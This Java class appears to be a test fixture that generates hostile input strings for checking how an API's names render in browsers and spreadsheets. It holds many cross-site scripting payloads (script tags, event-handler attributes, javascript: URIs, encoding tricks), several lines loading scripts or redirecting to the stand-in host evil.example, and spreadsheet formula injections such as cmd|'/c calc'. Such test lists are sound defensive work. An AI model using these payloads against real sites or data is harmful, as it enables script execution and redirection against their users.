package io.tenure.api.http;

import java.util.ArrayList;
import java.util.List;

/** Names that somebody gives a cohort or an event to see what a page, a spreadsheet or a terminal makes of them. */
final class HostilePayloads {
    private HostilePayloads() {}

    /** Texts that a browser would run where it took them for HTML, an attribute, a script, a style or an address. */
    static List<String> scripts() {
        List<String> all = new ArrayList<>();
        String call = "alert(1)";
        for (String tag : List.of("script", "SCRIPT", "ScRiPt", "script/x", "script\t", "script\n", "svg><script")) {
            all.add("<" + tag + ">" + call + "</" + tag.replaceAll("[^A-Za-z].*", "") + ">");
        }
        for (String element : List.of(
                "img src=x onerror",
                "svg onload",
                "body onload",
                "video src=x onerror",
                "audio src=x onerror",
                "input autofocus onfocus",
                "select autofocus onfocus",
                "textarea autofocus onfocus",
                "details open ontoggle",
                "marquee onstart",
                "iframe onload",
                "object data=x onerror",
                "a href=# onclick",
                "style onload",
                "link rel=stylesheet href=x onerror",
                "math onclick",
                "svg><animate onbegin",
                "svg><set onbegin",
                "body onpageshow",
                "table background=x onmouseover",
                "form oninput",
                "div onwheel")) {
            all.add("<" + element + "=" + call + ">");
            all.add("\"><" + element + "=" + call + " x=\"");
        }
        all.addAll(List.of(
                "javascript:" + call,
                "JaVaScRiPt:" + call,
                "java\tscript:" + call,
                "data:text/html,<script>" + call + "</script>",
                "vbscript:msgbox(1)",
                "<a href=javascript:" + call + ">x</a>",
                "<iframe src=javascript:" + call + ">",
                "<iframe srcdoc='<script>" + call + "</script>'>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<form action=//evil.example><input type=submit>",
                "<script src=//evil.example/x.js></script>",
                "<link rel=import href=//evil.example>",
                "</title><script>" + call + "</script>",
                "</textarea><script>" + call + "</script>",
                "</style><script>" + call + "</script>",
                "--><script>" + call + "</script>",
                "]]><script>" + call + "</script>",
                "' onmouseover=" + call + " x='",
                "\" onmouseover=" + call + " x=\"",
                "` onmouseover=" + call,
                "';" + call + ";//",
                "\";" + call + ";//",
                "\\\";" + call + ";//",
                "${" + call + "}",
                "{{constructor.constructor('" + call + "')()}}",
                "&lt;script&gt;" + call + "&lt;/script&gt;",
                "&#60;script&#62;" + call,
                "%3Cscript%3E" + call + "%3C/script%3E",
                "\\u003cscript\\u003e" + call,
                "x\u2028" + call + "\u2029x",
                "<\u0000script>".replace("\u0000", "\u200b") + call,
                "+ADw-script+AD4-" + call,
                "__proto__",
                "constructor",
                "\u202egnp.exe"));
        return List.copyOf(all);
    }

    /** Texts that a spreadsheet would run. */
    static List<String> formulas() {
        List<String> all = new ArrayList<>();
        for (String begin : List.of("=", "+", "-", "@", "\t=", "\u00a0=")) {
            all.add(begin + "cmd|'/c calc'!A1");
            all.add(begin + "HYPERLINK(\"//evil.example\")");
        }
        return List.copyOf(all);
    }
}
